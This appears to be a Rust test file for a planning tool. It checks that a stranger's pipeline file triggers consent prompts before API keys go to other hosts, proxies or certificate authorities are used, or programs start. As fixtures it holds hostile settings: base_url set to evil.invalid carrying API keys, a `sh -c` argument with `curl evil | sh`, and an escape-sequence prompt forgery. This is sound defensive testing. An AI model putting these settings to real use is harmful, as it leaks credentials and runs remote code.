//! Files of strangers: what is asked before a run of them, and the table of the effects of all options.

use planforge_app::check::pipeline_schema;
use planforge_app::contract::{PluginInfo, PluginKind};
use planforge_app::plugins::{list, show};
use planforge_app::run::{PipelineSource, RunRequest, RunStorage, run};
use planforge_app::{ConsentRequest, Context, Effect, OPTION_ROWS, OptionOwner};
use serde_json::Value;
use std::collections::{BTreeMap, BTreeSet};
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};

fn root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..")
}

/// A pipeline whose `[llm.main]` has these lines, and whose plan stage is that.
fn pipeline(model: &str, plan: &str) -> String {
    format!(
        "schema = 1\n[given]\ndomain = true\n[llm.main]\nmodel = \"m\"\n{model}\n[environment]\nuse = \"environment-pddl\"\n[[stage]]\n\
         do = \"translate\"\nlabel = \"problem\"\nuse = \"translator-direct\"\nroles = {{ writer = \"main\" }}\n\
         options = {{ mode = \"problem\" }}\n[[stage]]\ndo = \"plan\"\nlabel = \"plan\"\n{plan}\n"
    )
}

/// Everything that a run of the file asks consent for. The user refuses all of it. `their.pem` is beside the file.
fn questions(
    text: &str,
    set: &[&str],
    variables: &BTreeMap<String, String>,
) -> (Vec<ConsentRequest>, String) {
    let folder = tempfile::tempdir().unwrap();
    std::fs::write(folder.path().join("their.pem"), "-----BEGIN CERTIFICATE-----\n").unwrap();
    let asked: Arc<Mutex<Vec<ConsentRequest>>> = Arc::default();
    let log = Arc::clone(&asked);
    let consent = move |request: &ConsentRequest| {
        log.lock().unwrap().push(request.clone());
        false
    };
    let context =
        Context { consent: Arc::new(consent), variables: Arc::new(variables.clone()), ..Context::default() };
    let request = RunRequest {
        pipeline: PipelineSource::Text {
            name: folder.path().join("theirs.toml").display().to_string(),
            text: text.to_owned(),
        },
        tasks: vec![root().join("examples/suites/parcels/p01")],
        set: set.iter().map(|set| (*set).to_owned()).collect(),
        storage: RunStorage::Folder(folder.path().join("runs")),
        jobs: 1,
        ..RunRequest::default()
    };
    let error = run(&context, &request).unwrap_err();
    assert!(!folder.path().join("runs").exists() || error.code() != "cli.consent", "{error}");
    let asked = asked.lock().unwrap().clone();
    assert_eq!(error.code() == "cli.consent", !asked.is_empty(), "{error}");
    let refused = error.failures_found().filter(|failure| failure.code == "cli.consent");
    let with_option =
        refused.filter(|failure| failure.help.as_ref().is_some_and(|help| help.contains("--allow-")));
    assert_eq!(with_option.count(), asked.len(), "each refusal names the option that gives consent: {error}");
    (asked, error.to_string())
}

/// One line for a request, without places.
fn summary(request: &ConsentRequest) -> String {
    match request {
        ConsentRequest::Connect { server, variables, option, .. } => {
            format!("{option} {server} {}", variables.join(",")).trim_end().to_owned()
        }
        ConsentRequest::TrustAuthority { file, servers, option, .. } => {
            format!("{option} {file} for {}", servers.join(","))
        }
        ConsentRequest::StartProgram { command, .. } => format!("start {command}"),
    }
}

const OPENAI: &str = "use = \"provider-openai\"\napi_key_env = \"OPENAI_API_KEY\"\n";
const KEYLESS: &str = "use = \"provider-openai\"\n";
const OWN_PLANNER: &str = "use = \"planner-classical\"";
const PRESET: &str = "options = { preset = ";

/// A file of a stranger, and what is asked before it runs.
struct Hostile {
    model: String,
    plan: &'static str,
    asks: &'static [&'static str],
}

fn hostile(start: &str, model: &str, asks: &'static [&'static str]) -> Hostile {
    Hostile { model: format!("{start}{model}"), plan: OWN_PLANNER, asks }
}

#[test]
fn a_stranger_s_file_asks_before_each_server_proxy_authority_and_program() {
    let anthropic = "use = \"provider-anthropic\"\nmax_tokens = 10\napi_key_env = \"ANTHROPIC_API_KEY\"\n";
    let gemini = "use = \"provider-gemini\"\napi_key_env = \"GEMINI_API_KEY\"\n";
    let rows = [
        // The key goes to another server.
        hostile(
            OPENAI,
            "base_url = \"https://evil.invalid/v1\"",
            &["base_url https://evil.invalid OPENAI_API_KEY"],
        ),
        hostile(
            OPENAI,
            "base_url = \"http://127.0.0.1:9/v1\"",
            &["base_url http://127.0.0.1:9 OPENAI_API_KEY"],
        ),
        hostile(
            OPENAI,
            "base_url = \"http://localhost:9/v1\"",
            &["base_url http://localhost:9 OPENAI_API_KEY"],
        ),
        hostile(
            OPENAI,
            "base_url = \"http://api.openai.com/v1\"",
            &["base_url http://api.openai.com OPENAI_API_KEY"],
        ),
        hostile(
            anthropic,
            "base_url = \"http://[::1]:9/v1\"",
            &["base_url http://[::1]:9 ANTHROPIC_API_KEY"],
        ),
        hostile(
            gemini,
            "base_url = \"https://evil.invalid/v1\"",
            &["base_url https://evil.invalid GEMINI_API_KEY"],
        ),
        // The key of one service goes to another, in either way.
        hostile(
            KEYLESS,
            "api_key_env = \"ANTHROPIC_API_KEY\"",
            &["base_url https://api.openai.com ANTHROPIC_API_KEY"],
        ),
        hostile(
            OPENAI,
            "headers_env = { X-Other = \"OTHER_SECRET\" }",
            &["base_url https://api.openai.com OTHER_SECRET"],
        ),
        hostile(
            KEYLESS,
            "base_url = \"http://127.0.0.1:9/v1\"\nheaders_env = { X-Other = \"OTHER_SECRET\" }",
            &["base_url http://127.0.0.1:9 OTHER_SECRET"],
        ),
        // A proxy or an authority reads the requests.
        hostile(OPENAI, "proxy = \"http://127.0.0.1:9\"", &["proxy http://127.0.0.1:9 OPENAI_API_KEY"]),
        hostile(
            OPENAI,
            "proxy = \"http://127.0.0.1:9\"\nca_file = \"their.pem\"",
            &[
                "proxy http://127.0.0.1:9 OPENAI_API_KEY",
                "ca_file their.pem for https://api.openai.com,http://127.0.0.1:9",
            ],
        ),
        hostile(OPENAI, "ca_file = \"their.pem\"", &["ca_file their.pem for https://api.openai.com"]),
        // Nothing secret is named, and the texts of the tasks are sent.
        hostile(KEYLESS, "base_url = \"https://evil.invalid/v1\"", &["base_url https://evil.invalid"]),
        hostile(
            KEYLESS,
            "base_url = \"http://127.0.0.1:9/v1\"\nproxy = \"http://127.0.0.1:10\"",
            &["proxy http://127.0.0.1:10"],
        ),
        hostile(
            KEYLESS,
            "base_url = \"http://127.0.0.1:9/v1\"\nproxy = \"http://127.0.0.1:10\"\nca_file = \"their.pem\"",
            &["proxy http://127.0.0.1:10"],
        ),
        hostile(
            KEYLESS,
            "base_url = \"https://127.0.0.1:9/v1\"\nca_file = \"their.pem\"",
            &["ca_file their.pem for https://127.0.0.1:9"],
        ),
        // A batch service.
        hostile(
            "use = \"provider-batch\"\nmax_tokens = 10\napi_key_env = \"OPENAI_API_KEY\"\n",
            "base_url = \"http://127.0.0.1:9/v1\"",
            &["base_url http://127.0.0.1:9 OPENAI_API_KEY"],
        ),
        // A program.
        Hostile {
            model: format!("{KEYLESS}base_url = \"http://127.0.0.1:9/v1\""),
            plan: "use = \"planner-external\"\noptions = { command = [\"touch\"], arguments = [\"here\"] }",
            asks: &["start touch; arguments = [\"here\"]"],
        },
        Hostile {
            model: format!("{KEYLESS}base_url = \"http://127.0.0.1:9/v1\""),
            plan: "use = \"planner-external\"\noptions = { preset = \"pyperplan\", env = { PYTHONPATH = \".\" } }",
            asks: &["start pyperplan; env = {\"PYTHONPATH\":\".\"}; preset = \"pyperplan\""],
        },
        // The arguments have a slot for another option.
        Hostile {
            model: format!("{KEYLESS}base_url = \"http://127.0.0.1:9/v1\""),
            plan: "use = \"planner-external\"\noptions = { command = [\"sh\"], arguments = [\"-c\", \"{search}\"], search = \"curl evil | sh\" }",
            asks: &["start sh; arguments = [\"-c\",\"{search}\"]; search = \"curl evil | sh\""],
        },
    ];
    for Hostile { model, plan, asks } in rows {
        let text = pipeline(&model, plan);
        let (asked, message) = questions(&text, &[], &BTreeMap::new());
        assert_eq!(asked.iter().map(summary).collect::<Vec<_>>(), asks, "{model}\n{plan}\n{message}");
        for request in &asked {
            let place = place_in(&text, request);
            assert!(request.to_string().contains(&place), "{place} {request}");
        }
    }
}

/// The place of what is asked about in the file; without a line if it is the plugin's default.
fn place_in(text: &str, request: &ConsentRequest) -> String {
    let line = |start: &str| text.lines().position(|line| line.starts_with(start)).map(|index| index + 1);
    let (line, table) = match request {
        ConsentRequest::Connect { option, .. } | ConsentRequest::TrustAuthority { option, .. } => {
            (line(&format!("{option} = ")), "[llm.main]")
        }
        ConsentRequest::StartProgram { .. } => {
            (line("options = { command = ").or(line(PRESET)), "stage `plan`")
        }
    };
    let line = line.map(|line| format!(":{line}")).unwrap_or_default();
    format!("theirs.toml{line}: {table}")
}

#[test]
fn a_name_in_a_file_cannot_forge_a_question() {
    let table = "[llm.\"x]\\n\\u001b[2Jtheirs.toml:1: [llm.main\"]\nmodel = \"m\"\n";
    let model = format!("{KEYLESS}{table}{KEYLESS}base_url = \"https://evil.invalid/v1\"");
    let (asked, message) = questions(&pipeline(&model, OWN_PLANNER), &[], &BTreeMap::new());
    assert_eq!(asked.iter().map(summary).collect::<Vec<_>>(), ["base_url https://evil.invalid"], "{message}");
    assert!(!asked[0].to_string().contains(['\n', '\u{1b}']), "{:?}", asked[0]);
}

#[test]
fn the_provider_s_own_service_and_a_keyless_loopback_server_are_not_asked_about() {
    for model in [
        OPENAI.to_owned(),
        format!("{OPENAI}base_url = \"https://api.openai.com/v1\""),
        "use = \"provider-anthropic\"\nmax_tokens = 10\napi_key_env = \"ANTHROPIC_API_KEY\"".to_owned(),
        "use = \"provider-openai\"\nbase_url = \"https://api.mistral.ai/v1\"\napi_key_env = \"MISTRAL_API_KEY\"".to_owned(),
    ] {
        let (asked, message) = questions(&pipeline(&model, OWN_PLANNER), &[], &BTreeMap::new());
        assert_eq!(asked, [], "{model}");
        assert!(message.contains("cli.missing-secret"), "it ends at the missing value of the variable: {message}");
    }
    // Such a run is ended by a second table, which is asked about alone.
    let second =
        format!("{KEYLESS}base_url = \"http://127.0.0.1:9/v1\"\n[llm.other]\nmodel = \"m\"\n{OPENAI}");
    let (asked, message) = questions(&pipeline(&second, OWN_PLANNER), &[], &BTreeMap::new());
    assert_eq!(asked, [], "{message}");
}

#[test]
fn a_setting_of_a_use_case_is_not_consent() {
    // A front such as the MCP server passes on settings that the user did not type.
    let set = ["llm.main.base_url=http://127.0.0.1:9/v1"];
    let model = format!("{OPENAI}base_url = \"https://api.openai.com/v1\"");
    let (asked, _) = questions(&pipeline(&model, OWN_PLANNER), &set, &BTreeMap::new());
    assert_eq!(asked.iter().map(summary).collect::<Vec<_>>(), ["base_url http://127.0.0.1:9 OPENAI_API_KEY"]);
    assert!(
        asked[0].to_string().contains("theirs.toml: [llm.main]"),
        "the line has another value: {asked:?}"
    );
}

/// All keys of a schema. Those of nested types have the type's name before them.
fn keys_of(schema: &Value) -> BTreeSet<String> {
    fn add(schema: &Value, prefix: &str, found: &mut BTreeSet<String>) {
        let own = schema["properties"].as_object().into_iter().flatten();
        found.extend(own.map(|(key, _)| format!("{prefix}{key}")));
        for alternatives in ["oneOf", "anyOf", "allOf"].iter().filter_map(|key| schema[*key].as_array()) {
            alternatives.iter().for_each(|one| add(one, prefix, found));
        }
    }
    let mut found = BTreeSet::new();
    add(schema, "", &mut found);
    for (name, definition) in schema["$defs"].as_object().into_iter().flatten() {
        add(definition, &format!("{name}."), &mut found);
    }
    found
}

fn rows_of(owner: OptionOwner) -> BTreeSet<String> {
    let rows = OPTION_ROWS.iter().filter(|row| row.owner == owner);
    let options: Vec<String> = rows.flat_map(|row| row.options).map(|name| (*name).to_owned()).collect();
    let set: BTreeSet<String> = options.iter().cloned().collect();
    assert_eq!(set.len(), options.len(), "{owner:?} has an option in two rows");
    set
}

fn with_effect(id: &str, effects: &[Effect]) -> BTreeSet<String> {
    let rows = OPTION_ROWS.iter();
    let rows = rows.filter(|row| {
        matches!(row.owner, OptionOwner::Plugin(owner) if owner == id) && effects.contains(&row.effect)
    });
    rows.flat_map(|row| row.options).map(|name| (*name).to_owned()).collect()
}

fn set(names: impl IntoIterator<Item = String>) -> BTreeSet<String> {
    names.into_iter().collect()
}

#[test]
fn every_option_of_a_pipeline_file_and_of_a_bundled_plugin_has_a_row() {
    const WHY: &str = "write a row for it in crates/app/src/pipelines/option_effects.rs";
    assert_eq!(rows_of(OptionOwner::Pipeline), keys_of(&pipeline_schema()), "{WHY}");
    let context = Context::default();
    let infos: Vec<PluginInfo> =
        list(&context).plugins.iter().map(|plugin| show(&context, &plugin.id).unwrap()).collect();
    let known: BTreeSet<&str> = infos.iter().map(|info| info.id.as_str()).collect();
    for row in OPTION_ROWS {
        assert!(!matches!(row.owner, OptionOwner::Plugin(id) if !known.contains(id)), "{:?}", row.owner);
    }
    for info in &infos {
        let (id, owner) = (info.id.as_str(), OPTION_ROWS.iter().map(|row| row.owner));
        let owner = owner.into_iter().find(|owner| matches!(owner, OptionOwner::Plugin(of) if *of == id));
        let rows = owner.map(rows_of).unwrap_or_default();
        assert_eq!(rows, keys_of(&info.options_schema), "{id}: {WHY}");
        // What a plugin declares, for the host to act on, is what the table says.
        let servers = with_effect(id, &[Effect::NamesServer, Effect::NamesProxy]);
        let declared = set(info.servers.iter().cloned());
        assert_eq!(&servers - &set(["service".to_owned()]), declared, "{id}");
        assert_eq!(with_effect(id, &[Effect::NamesSecret]), set(info.secrets.iter().cloned()), "{id}");
        let files = with_effect(id, &[Effect::TrustsAuthority, Effect::ReadsFiles]);
        assert_eq!(files, set(info.files.iter().chain(&info.suites).cloned()), "{id}");
        let commands = set(info.commands.iter().map(|command| command.option.clone()));
        assert_eq!(with_effect(id, &[Effect::StartsProgram]), commands, "{id}");
        let reaching = info.commands.iter().flat_map(|command| {
            command.settings.iter().chain(&command.variables).chain(&command.folder).cloned()
        });
        // These fill slots of the arguments, which are declared.
        let slots = ["alias", "heuristic", "search"].map(str::to_owned);
        let slots = if id == "planner-external" { set(slots) } else { set([]) };
        assert_eq!(&with_effect(id, &[Effect::ReachesProgram]) - &slots, set(reaching), "{id}");
        let usual = info.commands.iter().flat_map(|command| {
            command.programs.iter().map(|usual| &usual.condition).chain(&command.condition)
        });
        let usual = set(usual.map(|condition| condition.option.clone()));
        assert_eq!(with_effect(id, &[Effect::StartsUsualProgram]), usual, "{id}");
        if info.kind != PluginKind::Provider {
            assert_eq!(servers, set([]), "{id}");
        }
    }
}

/// The keys that a message about an unknown key lists.
fn listed_keys(message: &str) -> BTreeSet<String> {
    let list = message.split("expected").nth(1).unwrap();
    let words = list.split('`').skip(1).step_by(2).map(str::to_owned);
    words.collect()
}

#[test]
fn every_key_of_a_matrix_file_has_a_row() {
    let keys = |text: &str| {
        let (found, _) =
            planforge_evaluate::matrix::Matrix::parse(text, "matrix.toml", Path::new("")).unwrap_err();
        listed_keys(&found[0].message)
    };
    let start = "schema = 1\n[matrix]\nsuites = []\npipelines = []\nseeds = \"1\"\n";
    let mut found = keys("zzz = 1\n");
    found.extend(keys("schema = 1\n[matrix]\nzzz = 1\n").into_iter().map(|key| format!("matrix.{key}")));
    let model = keys(&format!("{start}[matrix.models.a]\nzzz = 1\n"));
    found.extend(model.into_iter().map(|key| format!("matrix.models.NAME.{key}")));
    assert_eq!(rows_of(OptionOwner::Matrix), found);
}

#[test]
fn every_key_of_a_suite_file_has_a_row() {
    let folder = tempfile::tempdir().unwrap();
    let write = |name: &str, text: &str| std::fs::write(folder.path().join(name), text).unwrap();
    write("domain.nl", "A light.");
    write("p01.nl", "It is off.");
    let keys = |text: &str| {
        write("suite.toml", text);
        let request = RunRequest {
            pipeline: PipelineSource::File(root().join("configs/pipelines/llm-p.toml")),
            tasks: vec![folder.path().join("p01")],
            storage: RunStorage::Folder(folder.path().join("runs")),
            jobs: 1,
            ..RunRequest::default()
        };
        let found = run(&Context::default(), &request).unwrap_err().diagnostics();
        let unknown = found.iter().find(|finding| finding.message.contains("`zzz`")).unwrap();
        let help = format!("{:?}", unknown.help);
        let list = help.split("its keys are").nth(1).unwrap();
        list.split('`').skip(1).step_by(2).map(str::to_owned).collect::<Vec<_>>()
    };
    let mut found = set(keys("schema = 1\nzzz = 1\n"));
    for table in ["given", "generate"] {
        let inner = keys(&format!("schema = 1\n[{table}]\nzzz = 1\n"));
        found.extend(inner.into_iter().map(|key| format!("{table}.{key}")));
    }
    assert_eq!(rows_of(OptionOwner::Suite), found);
}

#[test]
fn every_key_of_a_user_s_file_has_a_row() {
    let folder = tempfile::tempdir().unwrap();
    std::fs::create_dir(folder.path().join("planforge")).unwrap();
    let variables = BTreeMap::from([("XDG_CONFIG_HOME".to_owned(), folder.path().display().to_string())]);
    for name in ["config.toml", "allow.toml", "prices.toml"] {
        let path = folder.path().join("planforge").join(name);
        std::fs::write(&path, "zzz = 1\n").unwrap();
        let context = Context { variables: Arc::new(variables.clone()), ..Context::default() };
        let model = format!("{KEYLESS}base_url = \"https://evil.invalid/v1\"");
        let request = RunRequest {
            pipeline: PipelineSource::Text {
                name: "theirs.toml".to_owned(),
                text: pipeline(&model, OWN_PLANNER),
            },
            tasks: vec![root().join("examples/suites/parcels/p01")],
            storage: RunStorage::Folder(folder.path().join("runs")),
            jobs: 1,
            ..RunRequest::default()
        };
        let error = run(&context, &request).unwrap_err().to_string();
        assert_eq!(rows_of(OptionOwner::UserFile(name)), listed_keys(&error), "{error}");
        std::fs::remove_file(&path).unwrap();
    }
}
